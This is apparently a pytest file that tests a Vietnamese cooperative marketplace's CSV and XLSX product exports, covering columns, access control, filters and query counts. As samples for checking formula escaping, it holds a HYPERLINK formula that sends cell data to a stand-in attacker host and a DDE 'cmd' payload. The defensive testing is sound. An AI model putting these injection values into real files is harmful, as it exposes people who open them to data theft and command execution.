"""Product exports as CSV and XLSX: a cooperative's own products, and the whole catalogue."""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from shop.accounts.models import Role
from shop.audit.models import AuditEntry
from shop.bulk import exports, queries
from shop.bulk.models import ImportBatch
from shop.bulk.products import COLUMNS as IMPORT_COLUMNS
from shop.catalog.models import (
    ALL_MONTHS,
    Category,
    Product,
    ProductStatus,
    months_to_mask,
)
from shop.cooperatives.models import Cooperative, Sector
from shop.extensions import db
from shop.media.models import StoredImage
from shop.reports.exports import XLSX_MIMETYPE
from tests.factories import (
    add_photos,
    create_cooperative,
    create_product,
    create_user,
    load_taxonomy,
)
from tests.helpers import page_text, sign_in

MEMBER_CSV = "/quan-ly-htx/xuat-san-pham/san-pham.csv"
MEMBER_XLSX = "/quan-ly-htx/xuat-san-pham/san-pham.xlsx"
STAFF_CSV = "/quan-tri/xuat-san-pham/san-pham.csv"
STAFF_XLSX = "/quan-tri/xuat-san-pham/san-pham.xlsx"

#: Names a spreadsheet would run as formulas (CSV injection).
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "-2+3", "@SUM(1)", "+84 123")


def read_csv(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff"), "Excel needs the BOM to read the accents"
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.data)).active
    return list(sheet.iter_rows(values_only=True))


def by_column(header, rows, column) -> list:
    index = list(header).index(column)
    return [row[index] for row in rows]


@pytest.fixture
def two_coops(client):
    """Cooperatives A and B with products of every kind, and a member of A."""
    category = db.session.scalar(select(Category).where(Category.name_vi == "Bánh, kẹo đặc sản"))
    coop_a = create_cooperative(name="HTX Xuất khẩu Đông Hồ", slug="htx-xuat-dong-ho")
    coop_b = create_cooperative(name="HTX Hàng xóm Phù Lãng", slug="htx-hang-xom")
    products = {
        "published": create_product(
            coop_a,
            name_vi="Bánh phu thê Đình Bảng",
            name_en="Phu the wedding cake",
            description_vi="Bánh dẻo, nhân đậu xanh; gói lá dong.\nBảo quản nơi khô.",
            price_vnd=120000,
            category=category,
            unit_code="box",
            pack_size_vi="Hộp 10 chiếc",
            min_order_qty=2,
            season_months=months_to_mask([1, 2, 3, 10]),
        ),
        "draft": create_product(
            coop_a,
            name_vi="Kẹo lạc mật mía",
            status=ProductStatus.DRAFT,
            price_vnd=None,
            season_months=ALL_MONTHS,
        ),
        "archived": create_product(coop_a, name_vi="Mứt gừng cũ", status=ProductStatus.ARCHIVED),
        "other": create_product(coop_b, name_vi="Gốm Phù Lãng của hàng xóm"),
    }
    member = create_user(cooperative=coop_a)
    db.session.commit()
    return {"a": coop_a, "b": coop_b, "products": products, "member": member}


# --------------------------------------------------------------------------- a cooperative's


def test_member_csv_has_the_import_template_columns_and_only_own_products(client, two_coops):
    sign_in(client, two_coops["member"])
    response = client.get(MEMBER_CSV)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "san-pham-htx-xuat-dong-ho.csv" in response.headers["Content-Disposition"]
    header, *rows = read_csv(response)
    assert header == list(exports.MEMBER_HEADER)
    # The import template's headers first, as shop.bulk.products writes them.
    assert header[: len(IMPORT_COLUMNS)] == [column.header for column in IMPORT_COLUMNS]
    assert header[:4] == ["Tên sản phẩm*", "Tên tiếng Anh", "Danh mục*", "Đơn vị*"]
    names = by_column(header, rows, "Tên sản phẩm*")
    # Only this cooperative's, archived ones left out.
    assert names == ["Bánh phu thê Đình Bảng", "Kẹo lạc mật mía"]

    cake = dict(zip(header, rows[0], strict=True))
    assert cake["Tên tiếng Anh"] == "Phu the wedding cake"
    assert cake["Danh mục*"] == "Bánh, kẹo đặc sản"
    assert cake["Đơn vị*"] == "hộp"
    assert cake["Giá (đồng)"] == "120000"
    assert cake["Đặt tối thiểu"] == "2"
    assert cake["Quy cách"] == "Hộp 10 chiếc"
    assert cake["Mô tả"] == "Bánh dẻo, nhân đậu xanh; gói lá dong.\nBảo quản nơi khô."
    assert cake["Mùa vụ (tháng)"] == "1-3, 10"
    assert cake["Mã sản phẩm"] == str(two_coops["products"]["published"].id)
    assert cake["Trạng thái"] == "Đang bán"
    slug = two_coops["products"]["published"].slug
    assert cake["Trang công khai"] == f"http://localhost/san-pham/{slug}"
    assert cake["Trang quản lý"].endswith(f"/quan-ly-htx/san-pham/{cake['Mã sản phẩm']}")

    sweets = dict(zip(header, rows[1], strict=True))
    assert sweets["Giá (đồng)"] == ""  # "Liên hệ": empty, as the template takes it
    assert sweets["Mùa vụ (tháng)"] == "cả năm"
    assert sweets["Trạng thái"] == "Bản nháp"
    assert sweets["Trang công khai"] == ""  # a draft has no public page


def test_member_export_is_in_vietnamese_whatever_the_interface_language(client, two_coops):
    sign_in(client, two_coops["member"])
    header, *rows = read_csv(client.get(MEMBER_CSV + "?lang=en"))
    assert header == list(exports.MEMBER_HEADER)
    assert by_column(header, rows, "Trạng thái") == ["Đang bán", "Bản nháp"]


def test_member_xlsx_keeps_prices_as_numbers_and_only_own_products(client, two_coops):
    sign_in(client, two_coops["member"])
    response = client.get(MEMBER_XLSX)
    assert response.status_code == 200
    assert response.mimetype == XLSX_MIMETYPE
    header, *rows = read_xlsx(response)
    assert header == exports.MEMBER_HEADER
    assert by_column(header, rows, "Tên sản phẩm*") == ["Bánh phu thê Đình Bảng", "Kẹo lạc mật mía"]
    prices = by_column(header, rows, "Giá (đồng)")
    assert prices == [120000, None]
    assert isinstance(prices[0], int)
    assert by_column(header, rows, "Đặt tối thiểu") == [2, 1]


def test_member_export_lists_photo_urls_in_order(client, two_coops):
    product = two_coops["products"]["published"]
    images = add_photos(product, 2)
    images[1].mime_type = "image/webp"
    db.session.commit()
    sign_in(client, two_coops["member"])
    header, *rows = read_csv(client.get(MEMBER_CSV))
    cell = by_column(header, rows, "Ảnh (đường dẫn)")[0]
    assert cell == (
        f"http://localhost/media/{images[0].sha256}/master.jpg; "
        f"http://localhost/media/{images[1].sha256}/master.webp"
    )
    # The template's own photo column holds ZIP file names: an export has no ZIP.
    assert by_column(header, rows, "Ảnh (tên tệp, cách nhau bởi dấu ;)")[0] == ""


def test_links_use_site_url_when_configured(client, two_coops, monkeypatch):
    monkeypatch.setitem(client.application.config, "SITE_URL", "https://cho-htx.example.vn/")
    sign_in(client, two_coops["member"])
    header, *rows = read_csv(client.get(MEMBER_CSV))
    link = by_column(header, rows, "Trang công khai")[0]
    assert link.startswith("https://cho-htx.example.vn/san-pham/")


@pytest.mark.parametrize("url, file_name", [(MEMBER_CSV, "xuat.csv"), (MEMBER_XLSX, "xuat.xlsx")])
def test_the_member_export_can_be_imported_again(client, two_coops, url, file_name):
    """The export goes back through the product import without an error, to the same values."""
    from shop.bulk import products as product_import

    sign_in(client, two_coops["member"])
    data = client.get(url).data
    with client.application.app_context():
        coop = db.session.get(Cooperative, two_coops["a"].id)
        batch = product_import.create_batch(coop, two_coops["member"], file_name, data, None)
        assert product_import.row_errors(batch) == {}
        imported = [row.values for row in product_import.check(batch)]
    originals = [two_coops["products"][key] for key in ("published", "draft")]
    fields = ("name_vi", "name_en", "category_id", "unit_code", "price_vnd", "season_months")
    assert [{f: v[f] for f in fields} for v in imported] == [
        {f: getattr(p, f) for f in fields} for p in originals
    ]
    assert [v["min_order_qty"] for v in imported] == [2, 1]
    assert imported[0]["description_vi"] == originals[0].description_vi
    assert imported[0]["pack_size_vi"] == "Hộp 10 chiếc"


@pytest.mark.parametrize("name", FORMULAS)
def test_formulas_are_escaped_in_the_member_exports(client, two_coops, name):
    product = two_coops["products"]["published"]
    product.name_vi = name
    product.description_vi = "=1+1"
    db.session.commit()
    sign_in(client, two_coops["member"])

    header, *rows = read_csv(client.get(MEMBER_CSV))
    assert by_column(header, rows, "Tên sản phẩm*")[0] == "'" + name
    assert by_column(header, rows, "Mô tả")[0] == "'=1+1"
    assert by_column(header, rows, "Giá (đồng)")[0] == "120000"  # numbers stay numbers

    sheet = load_workbook(io.BytesIO(client.get(MEMBER_XLSX).data)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == "'" + name
    assert cell.data_type == "s"


# --------------------------------------------------------------------------- the catalogue


@pytest.fixture
def staff(client):
    """A signed-in staff member. (Signing in ends the session: change rows after it through
    db.session.get, not through objects loaded before.)"""
    user = create_user(Role.STAFF)
    db.session.commit()
    sign_in(client, user)
    return user


def test_staff_csv_lists_the_whole_catalogue(client, two_coops, staff):
    db.session.get(Cooperative, two_coops["a"].id).tax_code = "0101234567"
    db.session.commit()
    response = client.get(STAFF_CSV)
    assert response.status_code == 200
    assert "filename=san-pham.csv" in response.headers["Content-Disposition"]
    header, *rows = read_csv(response)
    assert header == list(exports.STAFF_HEADER)
    total = db.session.scalar(select(func.count(Product.id)))
    assert len(rows) == total  # every status, archived included
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    cake = by_id[str(two_coops["products"]["published"].id)]
    assert cake["Tên sản phẩm"] == "Bánh phu thê Đình Bảng"
    assert cake["Hợp tác xã"] == "HTX Xuất khẩu Đông Hồ"
    assert cake["Mã số thuế"] == "0101234567"
    assert cake["Xã/phường"].startswith(("Xã ", "Phường "))
    assert cake["Lĩnh vực"] == db.session.get(Sector, two_coops["a"].sector_id).name_vi
    assert cake["Danh mục"] == "Bánh, kẹo đặc sản"
    assert cake["Trạng thái"] == "Đang bán"
    assert cake["Sao OCOP"] == "3"
    assert cake["Hạn chứng nhận OCOP"] == "30/06/2027"
    assert cake["Giá (đồng)"] == "120000"
    assert cake["Đơn vị"] == "hộp"
    assert len(cake["Ngày tạo"]) == len("27/11/2026 15:14")
    archived = by_id[str(two_coops["products"]["archived"].id)]
    assert archived["Trạng thái"] == "Đã lưu trữ"
    assert archived["Trang quản trị"].endswith(f"/quan-tri/san-pham/{archived['Mã sản phẩm']}")


def test_staff_filters_by_status_and_sector(client, two_coops, staff):
    header, *rows = read_csv(client.get(STAFF_CSV + "?status=draft"))
    assert set(by_column(header, rows, "Trạng thái")) == {"Bản nháp"}
    drafts = db.session.scalar(
        select(func.count(Product.id)).where(Product.status == ProductStatus.DRAFT)
    )
    assert len(rows) == drafts

    other_sector = create_cooperative(
        name="HTX Ngành khác",
        sector=db.session.scalar(
            select(Sector).where(Sector.id != two_coops["a"].sector_id).order_by(Sector.id)
        ),
    )
    create_product(other_sector, name_vi="Sản phẩm ngành khác")
    db.session.commit()
    sector = db.session.get(Sector, other_sector.sector_id)
    response = client.get(f"{STAFF_XLSX}?sector={sector.slug}&status=published")
    assert response.status_code == 200
    assert f"san-pham-published-{sector.slug}.xlsx" in response.headers["Content-Disposition"]
    header, *rows = read_xlsx(response)
    assert header == exports.STAFF_HEADER
    assert set(by_column(header, rows, "Lĩnh vực")) == {sector.name_vi}
    assert "Sản phẩm ngành khác" in by_column(header, rows, "Tên sản phẩm")
    assert isinstance(by_column(header, rows, "Giá (đồng)")[0], int)


def row_counts() -> tuple:
    return tuple(
        db.session.scalar(select(func.count()).select_from(model))
        for model in (Product, AuditEntry, ImportBatch, StoredImage)
    )


@pytest.mark.parametrize("url", [STAFF_CSV, STAFF_XLSX])
@pytest.mark.parametrize(
    "query, vietnamese, english",
    [
        ("status=banned", "Trạng thái “banned” không có", "There is no status “banned”"),
        ("sector=khong-co", "Lĩnh vực “khong-co” không có", "There is no sector “khong-co”"),
        ("sector=%00x", "Lĩnh vực", "There is no sector"),
    ],
)
def test_bad_filters_are_refused_with_a_message(
    client, two_coops, staff, url, query, vietnamese, english
):
    before = row_counts()
    response = client.get(f"{url}?{query}")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    text = page_text(response)
    assert "Bộ lọc không hợp lệ" in text
    assert vietnamese in text
    response = client.get(f"{url}?{query}&lang=en")
    assert response.status_code == 400
    assert "Invalid filter" in page_text(response)
    assert english in page_text(response)
    assert row_counts() == before


def test_both_bad_filters_are_named_at_once(client, staff):
    text = page_text(client.get(f"{STAFF_CSV}?status=x&sector=y"))
    assert "Trạng thái “x” không có" in text
    assert "Lĩnh vực “y” không có" in text


def test_formulas_are_escaped_in_the_staff_exports(client, two_coops, staff):
    for product, name in zip(
        list(two_coops["products"].values()), FORMULAS[: len(two_coops["products"])], strict=True
    ):
        db.session.get(Product, product.id).name_vi = name
    db.session.get(Cooperative, two_coops["a"].id).name = "=cmd|' /C calc'!A0"
    db.session.commit()
    header, *rows = read_csv(client.get(STAFF_CSV))
    names = set(by_column(header, rows, "Tên sản phẩm"))
    assert {"'" + name for name in FORMULAS[:4]} <= names
    assert "'=cmd|' /C calc'!A0" in by_column(header, rows, "Hợp tác xã")
    header, *rows = read_xlsx(client.get(STAFF_XLSX))
    assert {"'" + name for name in FORMULAS[:4]} <= set(by_column(header, rows, "Tên sản phẩm"))


# --------------------------------------------------------------------------- access


@pytest.mark.parametrize("url", [MEMBER_CSV, MEMBER_XLSX, STAFF_CSV, STAFF_XLSX])
def test_anonymous_visitors_are_sent_to_login(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert "/tai-khoan/dang-nhap" in response.headers["Location"]


@pytest.mark.parametrize("url", [MEMBER_CSV, MEMBER_XLSX, STAFF_CSV, STAFF_XLSX])
def test_buyers_are_refused(client, url):
    buyer = create_user(Role.BUYER)
    db.session.commit()
    sign_in(client, buyer)
    assert client.get(url).status_code == 403


def test_members_cannot_export_the_catalogue_and_staff_have_no_cooperative_export(
    client, two_coops
):
    sign_in(client, two_coops["member"])
    assert client.get(STAFF_CSV).status_code == 403
    staff = create_user(Role.STAFF)
    db.session.commit()
    sign_in(client, staff)
    assert client.get(MEMBER_CSV).status_code == 403


# --------------------------------------------------------------------------- cost


def _grow(coop, count):
    for _ in range(count):
        create_product(coop)
    db.session.commit()


def test_statements_grow_with_batches_not_rows(blank_db, count_queries, monkeypatch):
    load_taxonomy()
    coop = create_cooperative()
    member = create_user(cooperative=coop)
    staff = create_user(Role.STAFF)
    _grow(coop, 10)
    member_client, staff_client = blank_db.test_client(), blank_db.test_client()
    sign_in(member_client, member)
    sign_in(staff_client, staff)

    def measure(client, url):
        with count_queries() as counter:
            response = client.get(url)
            response.get_data()
        assert response.status_code == 200
        return counter.count

    urls = [
        (member_client, MEMBER_CSV),
        (member_client, MEMBER_XLSX),
        (staff_client, STAFF_CSV),
        (staff_client, STAFF_XLSX),
    ]
    with_10 = [measure(c, u) for c, u in urls]
    _grow(coop, 90)
    with_100 = [measure(c, u) for c, u in urls]
    assert with_100 == with_10

    # Batches of 30: 100 products are 4 batches (two statements each) where 10 were one.
    monkeypatch.setattr(queries, "BATCH", 30)
    in_batches = [measure(c, u) for c, u in urls]
    assert in_batches == [n + 3 * 2 for n in with_10]
